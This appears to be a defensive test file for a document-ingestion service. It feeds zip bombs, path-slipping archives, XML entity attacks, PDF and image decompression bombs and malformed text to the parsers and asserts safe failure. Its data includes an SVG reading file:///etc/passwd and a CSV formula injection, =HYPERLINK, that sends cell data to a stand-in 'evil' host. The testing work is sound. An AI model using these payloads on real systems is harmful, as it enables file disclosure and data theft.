// Hostile and broken files through the real app and real parsers (BAD-11 to BAD-31 in test/faults.md). Each
// ends done or failed with the true reason, nothing is fetched, read or left behind, and the service keeps running. Tests that
// need no app are in src/reader (hostile, mixed, poison), those that need a socket in wire.test.ts.

import { existsSync, readdirSync } from 'node:fs'
import { createServer, type Server } from 'node:net'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { MAX_FILE_BYTES } from '../../src/contract/limits.ts'
import type { Job } from '../../src/contract/resources.ts'
import { failureSentence } from '../../src/ingest/failures.ts'
import { cancelJob } from '../../src/ingest/jobs.ts'
import { uploadFiles } from '../../src/ingest/uploads.ts'
import type { ParserLimits } from '../../src/reader/limits.ts'
import { openPool } from '../../src/reader/pool.ts'
import { type Person, type TestApp, testApp } from '../support/app.ts'
import {
  callingPdf,
  circularPdf,
  deepDocx,
  doublingPages,
  entityDocx,
  flateBomb,
  floodPng,
  manyEntries,
  manyPages,
  nestedZip,
  oddZip,
  overlappingZip,
  slippingZip,
  withDamage,
  zipBomb,
} from '../support/files/bad.ts'
import { oddBodies } from '../support/files/bodies.ts'
import { makeDocx, wordParagraph } from '../support/files/office.ts'
import { makePdf, prose } from '../support/files/pdf.ts'
import { thorough } from '../support/full.ts'
import { callerOf, drain, upload, type WorkDeps } from '../support/ingest.ts'

// A hundredth of the usual patience: the files are small.
const limits: Partial<ParserLimits> = { baseMs: 20_000, capMs: 40_000, residentBytes: 512 * 2 ** 20 }
// The catalogue's own bounds where a file must be refused for what it is, before its child is killed for what it takes.
const containers: Partial<ParserLimits> = { ...limits, baseMs: 10_000, capMs: 10_000 }
const entities: Partial<ParserLimits> = { ...limits, baseMs: 2000, capMs: 2000 }
const floods: Partial<ParserLimits> = { ...limits, residentBytes: 256 * 2 ** 20 }

let app: TestApp
let person: Person
let token: string
let canary: Server
let calls = 0
let port = 0

beforeAll(async () => {
  app = await testApp()
  person = await app.person()
  token = await app.token(person)
  canary = createServer((socket) => {
    calls++
    socket.destroy()
  })
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve))
  const address = canary.address()
  port = typeof address === 'object' && address !== null ? address.port : 0
})
afterAll(async () => {
  canary.close()
  await app.close()
})

const F = failureSentence

/** How each file ended: its sentence, or `done`; what the documents say; and which bounds killed a child. */
async function ends(
  files: Record<string, Buffer | string>,
  bounds = limits,
): Promise<{ ended: Record<string, string>; text: string; killed: unknown[] }> {
  const killed: unknown[] = []
  const log = { ...app.deps.log, warn: (data: object) => void killed.push(data) }
  const pool = openPool({ size: 2, cacheDir: app.deps.settings.dataDir, log, limits: bounds })
  try {
    return { ...(await endsWith(files, { ...app.deps, parser: pool })), killed }
  } finally {
    await pool.close()
  }
}

async function endsWith(
  files: Record<string, Buffer | string>,
  deps: WorkDeps,
): Promise<{ ended: Record<string, string>; text: string }> {
  const workspaceId = await app.workspace(person)
  const { id } = await upload(deps, person, workspaceId, files)
  await drain(deps)
  const { body } = await app.send('GET', `/v1/jobs/${id}`, token)
  const job = body as Job
  expect(job.status).toBe('done')
  const ended: Record<string, string> = {}
  let text = ''
  for (const file of job.files) {
    ended[file.filename] = file.status === 'failed' ? (file.error ?? '') : file.status
    if (file.document_id === undefined) continue
    const url = `/v1/workspaces/${workspaceId}/documents/${file.document_id}?max_chars=60000`
    const read = (await app.send('GET', url, token)).body as { chunks: { text: string }[] }
    text += read.chunks.map((chunk) => chunk.text).join('\n')
  }
  return { ended, text }
}

const oneOf = (...sentences: string[]): unknown =>
  expect.toSatisfy((ended: string) => sentences.includes(ended), `one of ${sentences.join(' ')}`)

describe('containers', () => {
  thorough(
    'BAD-22: zip bombs: by ratio, by a million entries, lying, overlapping, nested; names that climb, come twice, link',
    async () => {
      const bombs = {
        'ratio.docx': zipBomb(60),
        'lying.docx': zipBomb(60, 1000),
        'overlapping.docx': overlappingZip(2000),
        'entries.docx': manyEntries(1_000_000),
        'nested.docx': nestedZip('Rules of the nested zip'),
        'odd.docx': oddZip('Rules of the first text'),
        'broken.docx': await makeDocx(wordParagraph('outer')).then((inner) => withDamage(inner, 3)),
        'slipping.docx': await slippingZip('Rules of the slipway'),
        'fine.docx': await makeDocx(wordParagraph('A small fine file')),
      }
      const { ended, text, killed } = await ends(bombs, containers)
      // Within 10 s and 512 MB, counted while unpacked.
      expect(killed).toEqual([])
      expect(ended).toEqual({
        'ratio.docx': F.too_large_unpacked,
        'lying.docx': oneOf(F.too_large_unpacked, F.damaged),
        'overlapping.docx': oneOf(F.too_large_unpacked, F.damaged),
        'entries.docx': F.too_large_unpacked,
        'nested.docx': 'done',
        'odd.docx': 'done',
        'broken.docx': oneOf(F.damaged, 'done'),
        'slipping.docx': F.damaged,
        'fine.docx': 'done',
      })
      expect(text).toContain('A small fine file')
      expect(text).toContain('Rules of the nested zip')
      expect(text).toContain('Rules of the first text')
      expect(text).not.toMatch(/A second text|root:/)
      expect(existsSync('/tmp/kenning-slipped.txt')).toBe(false)
    },
  )

  test('BAD-23: XML entities: no local file, no network, no expansion bomb; depth is limited', async () => {
    const papers = {
      'file.docx': await entityDocx('file', port),
      'server.docx': await entityDocx('server', port),
      'laughs.docx': await entityDocx('laughs', port),
      'quadratic.docx': await entityDocx('quadratic', port),
      'include.docx': await entityDocx('include', port),
      'deep.docx': await deepDocx(5000),
    }
    const { ended, text, killed } = await ends(papers, entities)
    expect(killed).toEqual([])
    for (const end of Object.values(ended)) expect(['done', ...Object.values(F)]).toContain(end)
    expect(text).not.toMatch(/root:|laughs laughs laughs/)
    expect(calls).toBe(0)
  })
})

describe('PDF', () => {
  thorough('BAD-24: bombs, circles, floods of pages, locks and calls', async () => {
    const whole = makePdf([prose(['The tide gauge of the northern pier'])])
    const { ended, text } = await ends({
      'bomb.pdf': flateBomb(),
      'circular.pdf': circularPdf(),
      'pages.pdf': manyPages(25_000),
      'million.pdf': doublingPages(20),
      'calling.pdf': callingPdf(port),
      'locked.pdf': makePdf([prose(['secret'])], { locked: true }),
      'cut.pdf': whole.subarray(0, whole.length / 3),
      'no-xref.pdf': Buffer.from(whole.toString('latin1').replace(/xref[\s\S]*trailer/, 'trailer'), 'latin1'),
      'name-only.pdf': '%PDF-1.7\n',
      'empty.pdf': '',
    })
    expect(ended).toEqual({
      'bomb.pdf': oneOf(F.too_large_unpacked, F.took_too_long),
      'circular.pdf': oneOf(F.no_text, F.damaged, F.too_large_unpacked),
      'pages.pdf': F.too_many_pages,
      'million.pdf': oneOf(F.too_many_pages, F.too_large_unpacked, F.took_too_long, F.no_text, F.damaged),
      'calling.pdf': 'done',
      'locked.pdf': F.encrypted,
      'cut.pdf': oneOf(F.damaged, F.no_text, 'done'),
      'no-xref.pdf': 'done',
      'name-only.pdf': F.damaged,
      'empty.pdf': F.empty,
    })
    expect(text).toContain('Tide tables of the northern harbours')
    expect(text).toContain('northern pier')
    expect(calls).toBe(0)
  })
})

describe('pictures', () => {
  test('BAD-26: decompression bombs are rejected by their header, the rest is reported as damaged', async () => {
    const gif = Buffer.concat([Buffer.from('GIF89a\xff\xff\xff\xff', 'latin1'), Buffer.alloc(40)])
    const bmp = Buffer.alloc(64)
    bmp.write('BM', 'latin1')
    bmp.writeUInt32LE(40, 14)
    bmp.writeInt32LE(65_535, 18)
    bmp.writeInt32LE(-65_535, 22)
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'
    const jpeg = Buffer.concat([
      Buffer.from('ffd8', 'hex'),
      ...Array.from({ length: 160 }, () =>
        Buffer.concat([Buffer.from('ffe1fffd', 'hex'), Buffer.alloc(65_531)]),
      ),
    ])
    const pictures = {
      'flood.png': floodPng(65_535, 65_535),
      'long.png': floodPng(4_000_000_000, 1),
      'flood.gif': gif,
      'flood.bmp': bmp,
      'svg.png': svg,
      'exif.jpg': jpeg,
      'nothing.png': floodPng(10, 10),
    }
    const { ended, killed } = await ends(pictures, floods)
    expect(killed).toEqual([])
    expect(ended).toEqual({
      'flood.png': F.too_large_unpacked,
      'long.png': F.too_large_unpacked,
      'flood.gif': F.too_large_unpacked,
      'flood.bmp': F.too_large_unpacked,
      'svg.png': F.damaged,
      'exif.jpg': F.damaged,
      'nothing.png': F.damaged,
    })
  })
})

describe('text', () => {
  test('BAD-27, BAD-30, BAD-31: controls, broken characters, endless words and lines are text', async () => {
    const controls = `Ebb\u0000 and\u0001 flow \uFFFE\uFDD0 of the estuary ${'by day and by night '.repeat(20)}\n`
    const { ended, text } = await ends({
      'controls.txt': controls,
      'surrogates.txt': Buffer.from([...Buffer.from('Spring tide \xed\xa0\x80 ', 'latin1'), 0xc0, 0x80, 10]),
      'controls.md': `# Ebb\u0000\n\n${controls}`,
      'controls.csv': `name,value\n${controls.trim()},1\n`,
      'controls.docx': await makeDocx(wordParagraph('Ebb \u0001 and flow')),
      'word.txt': 'x'.repeat(2 ** 20),
      'words.txt': Array.from({ length: 30_000 }, (_, i) => `w${(i * 7919).toString(36)}`).join(' '),
      'line.csv': `a,b\n${'1,'.repeat(50_000)}`,
      'columns.csv': Array.from({ length: 5000 }, (_, i) => `c${i}`).join(','),
      'quote.csv': 'a,b\n1,"never closed\n2,3\n',
      'wide.csv': Buffer.from('\ufeffname,value\nMoored,1\n', 'utf16le'),
      'formula.csv': 'a,b\n=HYPERLINK("http://evil/?"&A1),+1\n',
      'deep.md': `${'> '.repeat(500)}deep\n\n${'- '.repeat(200)}list`,
    })
    const accepted = ['controls.docx']
    for (const [name, end] of Object.entries(ended)) {
      if (accepted.includes(name)) expect(['done', ...Object.values(F)]).toContain(end)
      else expect([name, end]).toEqual([name, 'done'])
    }
    expect(text).toContain('of the estuary')
    expect(text).toContain('Spring tide')
    expect(text).toContain('Moored')
    expect(text).toContain('=HYPERLINK')
    expect(text.isWellFormed()).toBe(true)
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
    expect(text).not.toMatch(/[\x00-\x08\x0b\x0c\x0e-\x1f]/)
  })
})

describe('BAD-11, BAD-20: requests', () => {
  test.each(Object.entries(oddBodies))('%s', async (_, [payload, status]) => {
    const before = jobsFolder()
    const workspaceId = await app.workspace(person)
    const answer = await app.send('POST', `/v1/workspaces/${workspaceId}/files`, token, {
      payload,
      headers: { 'content-type': 'multipart/form-data; boundary=b' },
    })
    expect(answer.status).toBe(status)
    // What was there may go meanwhile: the files of the test before are still being tidied.
    if (status === 422) expect(jobsFolder().filter((name) => !before.includes(name))).toEqual([])
  })
})

/** What stands in the folders of files that are being taken in. */
function jobsFolder(): string[] {
  const folder = app.deps.settings.dataDir
  return readdirSync(folder)
    .filter((name) => !name.startsWith('parser-') && name !== 'blobs' && name !== 'cache')
    .flatMap((name) => readdirSync(join(folder, name), { recursive: true }).map(String))
}

describe('BAD-12: exact sizes', () => {
  const piece = Buffer.alloc(2 ** 20, 'tide ')
  async function* bytes(size: number): AsyncGenerator<Buffer> {
    for (let left = size; left > 0; left -= piece.length)
      yield piece.subarray(0, Math.min(left, piece.length))
  }
  /** Twenty files, the one at `position` of that size. */
  async function sent(size: number, position: number): Promise<Job> {
    async function* parts() {
      for (let no = 1; no <= 20; no++) {
        const stream = no === position ? bytes(size) : [Buffer.from(`small ${no}`)]
        yield { filename: `${no}.txt`, stream: Readable.from(stream) }
      }
    }
    return uploadFiles(app.deps, callerOf(person), await app.workspace(person), { parts: parts() })
  }

  test.each([1, 20])(
    '100 MB in place %i is taken, one byte more is 413 and leaves nothing',
    async (position) => {
      const before = jobsFolder()
      await expect(sent(MAX_FILE_BYTES + 1, position)).rejects.toMatchObject({
        status: 413,
        type: 'file_too_large',
        message: expect.stringContaining(`${position}.txt`),
      })
      expect(jobsFolder()).toEqual(before)
      const job = await sent(MAX_FILE_BYTES, position)
      expect(job.files.map(({ filename }) => filename)).toHaveLength(20)
      await cancelJob(app.deps, callerOf(person), job.id)
    },
  )

  test('an endless file is rejected as soon as it is too large', async () => {
    let read = 0
    async function* endless() {
      for (;;) {
        read += piece.length
        yield piece
      }
    }
    async function* parts() {
      yield { filename: 'endless.txt', stream: Readable.from(endless()) }
    }
    const workspaceId = await app.workspace(person)
    const upload = uploadFiles(app.deps, callerOf(person), workspaceId, { parts: parts() })
    await expect(upload).rejects.toMatchObject({ status: 413 })
    expect(read).toBeLessThan(MAX_FILE_BYTES + 64 * 2 ** 20)
  })
})

test('with less than 1 GB or a twentieth of the disk free uploads are rejected unread', async () => {
  const workspaceId = await app.workspace(person)
  let read = 0
  async function* parts() {
    read++
    yield { filename: 'a.txt', stream: Readable.from([Buffer.from('Spring tide.')]) }
  }
  const sent = (free: number, total: number) => {
    const blobs = { ...app.deps.blobs, space: async () => ({ free, total }) }
    return uploadFiles({ ...app.deps, blobs }, callerOf(person), workspaceId, { parts: parts() })
  }
  for (const [free, total] of [
    [2 ** 30 - 1, 2 ** 33],
    [2 ** 31, 2 ** 36],
  ] as const)
    await expect(sent(free, total)).rejects.toMatchObject({ status: 503, extras: { retryAfter: 60 } })
  expect(read).toBe(0)
  const { id } = await sent(2 ** 30, 2 ** 33)
  await cancelJob(app.deps, callerOf(person), id)
})
